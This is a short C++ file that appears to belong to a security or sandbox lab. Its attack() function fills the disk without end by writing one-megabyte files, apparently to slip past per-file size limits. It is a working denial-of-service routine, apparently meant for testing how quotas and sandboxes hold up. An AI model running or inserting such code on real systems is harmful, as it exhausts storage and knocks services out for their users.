// Fills the disk with files, each of them small enough.
#include "rest_of_the_lab.hpp"

#include <fcntl.h>

bool attack() {
  static char chunk[1u << 20] = {1};
  for (int i = 0;; ++i) {
    const int file = ::open(("f" + std::to_string(i)).c_str(), O_CREAT | O_WRONLY, 0600);
    if (file >= 0) (void)!::write(file, chunk, sizeof chunk);
    ::close(file);
  }
}
